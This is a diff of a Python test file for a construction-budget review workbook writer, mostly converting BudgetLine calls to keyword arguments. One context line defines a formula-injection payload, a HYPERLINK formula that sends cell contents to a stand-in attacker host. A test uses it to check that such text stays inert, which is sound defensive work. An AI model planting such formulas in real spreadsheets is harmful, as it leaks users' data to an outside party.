@@ -26,7 +26,14 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def _line(row: int, code: str, kind: str, amount: str, description: str = "Work") -> BudgetLine:
-    return BudgetLine(row, "", code, kind, description, Decimal(amount))
+    return BudgetLine(
+        row=row,
+        sub_job="",
+        cost_code=code,
+        cost_type=kind,
+        description=description,
+        amount=Decimal(amount),
+    )
 
 
 def _document(lines: tuple[BudgetLine, ...]) -> BudgetDocument:
@@ -89,7 +96,17 @@ def test_a_blank_review_workbook_reads_as_no_decision(tmp_path: Path) -> None:
 
 def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
     amount, qty, cost = Decimal("25.00"), Decimal("2"), Decimal("12.5")
-    priced = BudgetLine(3, "", "02-200", HOSTILE, HOSTILE, amount, qty, HOSTILE, cost)
+    priced = BudgetLine(
+        row=3,
+        sub_job="",
+        cost_code="02-200",
+        cost_type=HOSTILE,
+        description=HOSTILE,
+        amount=amount,
+        unit_qty=qty,
+        uom=HOSTILE,
+        unit_cost=cost,
+    )
     document = _document((_line(2, "01-100", "L", "10.00", HOSTILE), priced))
     review, rejected = tmp_path / "review.xlsx", tmp_path / "rejected.xlsx"
     write_review_workbook(_content(document), review)
@@ -120,15 +137,15 @@ def test_the_rejected_workbook_reads_back_as_the_same_budget(tmp_path: Path) -> 
         _line(2, "01-100", "L", "12000.00"),
         _line(3, "03-300", "M", "45000.50"),
         BudgetLine(
-            4,
-            "B",
-            "09-900",
-            "S",
-            "Paint",
-            Decimal("8000.00"),
-            Decimal("2.5"),
-            "EA",
-            Decimal("3200"),
+            row=4,
+            sub_job="B",
+            cost_code="09-900",
+            cost_type="S",
+            description="Paint",
+            amount=Decimal("8000.00"),
+            unit_qty=Decimal("2.5"),
+            uom="EA",
+            unit_cost=Decimal("3200"),
         ),
     )
     document = _document(lines)
